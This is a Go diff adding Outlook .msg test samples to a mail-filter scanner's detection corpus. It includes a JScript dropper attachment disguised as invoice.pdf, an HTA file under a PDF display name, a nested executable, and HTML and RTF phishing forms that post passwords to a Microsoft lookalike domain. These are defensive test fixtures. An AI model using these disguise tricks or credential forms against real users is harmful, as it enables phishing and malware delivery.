@@ -1,0 +1,112 @@
+package corpus
+
+import (
+	"fmt"
+
+	"github.com/kensa-milter/kensa/internal/corpus/formats"
+	"github.com/kensa-milter/kensa/policy"
+)
+
+// Outlook .msg files (forwarded "as attachment", phishing reports): what
+// Outlook shows of them is the attachments under their names, the HTML or
+// RTF body, and embedded messages. Each sample hides its payload where a
+// reader of bare compound-file streams would not look; the clean one is an
+// ordinary forwarded message.
+
+const outlookType = "application/vnd.ms-outlook"
+
+func outlookSamples() []Sample {
+	bad := func(name, about string, a policy.Action, wants ...Want) Sample {
+		return Sample{Name: name, About: about, Action: a, Want: wants}
+	}
+	var out []Sample
+	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
+	fwd := func(subject, note string, m formats.Msg) mail {
+		return mail{subject: subject, root: multipart("mixed", text(note+"\n"), attach(outlookType, "forwarded.msg", formats.MsgBytes(m)))}
+	}
+	headers := "Received: from mx.supplier.example.net (mx.supplier.example.net [192.0.2.25])\r\n" +
+		"From: Supplier <billing@supplier.example.net>\r\nTo: orders@shop.example.com\r\nSubject: Invoice 2024-117\r\n"
+
+	add(bad("msg-script-pdf-name", "a .msg whose attachment Outlook lists as invoice.pdf and saves as invoice.pdf.js, a JScript dropper", policy.Reject,
+		w("yara", "Kensa_Script_Dropper", "2/forwarded.msg/invoice.pdf.js"),
+		w("heuristic", "double-extension", "2/forwarded.msg/invoice.pdf.js"),
+		w("heuristic", "filename-mismatch", "2/forwarded.msg/invoice.pdf.js")),
+		fwd("Fwd: Invoice", "Forwarding the supplier's mail as an attachment.", formats.Msg{
+			Subject: "Invoice 2024-117", Headers: headers, Body: "Please find the invoice attached.\r\n",
+			Attachments: []formats.MsgAttachment{{LongName: "invoice.pdf.js", Name: "INVOIC~1.JS", DisplayName: "invoice.pdf",
+				MIMETag: "application/pdf", Data: []byte(jsDropper)}},
+		}))
+
+	add(bad("msg-hta-display-name", "a .msg attachment whose display name says statement.pdf and whose file name is statement.hta", policy.Reject,
+		w("yara", "Kensa_Script_Dropper", "2/forwarded.msg/statement.hta"),
+		w("heuristic", "filename-mismatch", "2/forwarded.msg/statement.hta")),
+		fwd("Fwd: Statement", "See the forwarded statement.", formats.Msg{
+			Subject: "Statement", Body: "Your statement is attached.\r\n",
+			Attachments: []formats.MsgAttachment{{LongName: "statement.hta", DisplayName: "statement.pdf", LongName8: "statement.pdf",
+				Data: []byte(htaDrop)}},
+		}))
+
+	add(bad("msg-html-phish", "a .msg whose HTML body (what Outlook shows) is a credential form on a Microsoft lookalike; the plain body is harmless", policy.Quarantine,
+		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.html"),
+		w("heuristic", "html-credential-form", "2/forwarded.msg/body.html")),
+		fwd("Fwd: Mailbox quota", "Is this real? Forwarding as attachment.", formats.Msg{
+			Subject: "Mailbox quota", Body: "Your mailbox is almost full.\r\n", CodePage: 65001,
+			HTML: []byte(`<html><body><p>Your mailbox is full. Sign in to keep your mail:</p>` +
+				`<form method="post" action="https://secure-micorsoft-login.com/owa/auth"><input type="email" name="u">` +
+				`<input type="password" name="p"><button>Sign in</button></form></body></html>`),
+		}))
+
+	add(bad("msg-rtf-phish", "a .msg with only a compressed RTF body that encapsulates HTML (as Outlook stores HTML mail): a sign-in form posting to a lookalike", policy.Quarantine,
+		w("heuristic", "html-credential-form", "2/forwarded.msg/body-rtf.html"),
+		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.rtf")),
+		fwd("Fwd: Password expiry", "Forwarded for review.", formats.Msg{
+			Subject: "Password expiry",
+			RTF: []byte(`{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}` +
+				`{\*\htmltag19 <html>}{\*\htmltag50 <body>}\htmlrtf {\htmlrtf0 Your password expires today.\par ` +
+				`{\*\htmltag84 <form method="post" action="https://secure-micorsoft-login.com/owa/auth">}` +
+				`{\*\htmltag84 <input type="password" name="p">}{\*\htmltag84 <button>}\htmlrtf {\field{\*\fldinst FORMTEXT}}\htmlrtf0 Keep my password` +
+				`{\*\htmltag92 </button></form>}\htmlrtf }\htmlrtf0 {\*\htmltag58 </body>}{\*\htmltag27 </html>}}`),
+		}))
+
+	inner := formats.Msg{Subject: "Setup", Body: "Install the attached tool.\r\n",
+		Attachments: []formats.MsgAttachment{{LongName: "setup.exe", Data: fakePE("outlook embedded")}}}
+	middle := formats.Msg{Subject: "Fwd: Setup", Body: "Forwarded.\r\n",
+		Attachments: []formats.MsgAttachment{{DisplayName: "Setup", Method: 5, Embedded: &inner}}}
+	add(bad("msg-embedded-pe", "a program two embedded messages deep in a .msg", policy.Quarantine,
+		w("heuristic", "executable-in-container", "2/forwarded.msg/Fwd Setup.msg/Setup.msg/setup.exe")),
+		fwd("Fwd: Fwd: Setup", "Forwarding the whole thread.", formats.Msg{
+			Subject: "Fwd: Fwd: Setup", Body: "See below.\r\n",
+			Attachments: []formats.MsgAttachment{{DisplayName: "Fwd Setup", Method: 5, Embedded: &middle}},
+		}))
+
+	out = append(out, build(Sample{Name: "msg-forwarded-pdf", Clean: true,
+		About: "an ordinary Outlook message forwarded as attachment: text, HTML and RTF bodies, a PDF invoice"},
+		fwd("Fwd: Invoice", "Forwarding the supplier's invoice for approval.", formats.Msg{
+			Subject: "Invoice 2024-117", Headers: headers, CodePage: 1252,
+			Body: "Dear customer,\r\nplease find invoice 2024-117 attached.\r\nSupplier billing\r\n",
+			HTML: []byte(`<html><body><p>Dear customer,</p><p>please find invoice 2024-117 attached.</p>` +
+				`<p>Supplier billing &middot; <a href="https://supplier.example.net/">supplier.example.net</a></p></body></html>`),
+			RTF: []byte(`{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}{\*\htmltag19 <html>}{\*\htmltag50 <body>}` +
+				`\htmlrtf {\htmlrtf0 Dear customer,\par please find invoice 2024-117 attached.\htmlrtf }\htmlrtf0 {\*\htmltag58 </body>}{\*\htmltag27 </html>}}`),
+			Attachments: []formats.MsgAttachment{{LongName: "invoice-2024-117.pdf", Name: "INVOIC~1.PDF", DisplayName: "invoice-2024-117.pdf",
+				Extension: ".pdf", MIMETag: "application/pdf", Data: invoicePDF()}},
+		})))
+	return out
+}
+
+// invoicePDF is a one-page invoice with its lines in the page text.
+func invoicePDF() []byte {
+	content := "BT /F1 16 Tf 72 770 Td (Supplier Example Net - Invoice 2024-117) Tj ET\n"
+	for i, line := range []string{"Bill to: Example Shop, Orders", "Item 1: Paper, A4, 80 g, 20 boxes   240.00 EUR",
+		"Item 2: Toner cartridges, 4 pieces   312.50 EUR", "Item 3: Delivery   15.00 EUR", "Total due within 30 days: 567.50 EUR",
+		"Bank transfer to the account on file; reference 2024-117."} {
+		content += fmt.Sprintf("BT /F1 11 Tf 72 %d Td (%s) Tj ET\n", 730-18*i, line)
+	}
+	return formats.PDF(
+		"<< /Type /Catalog /Pages 2 0 R >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
+		pdfStream("", []byte(content)),
+		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+	)
+}
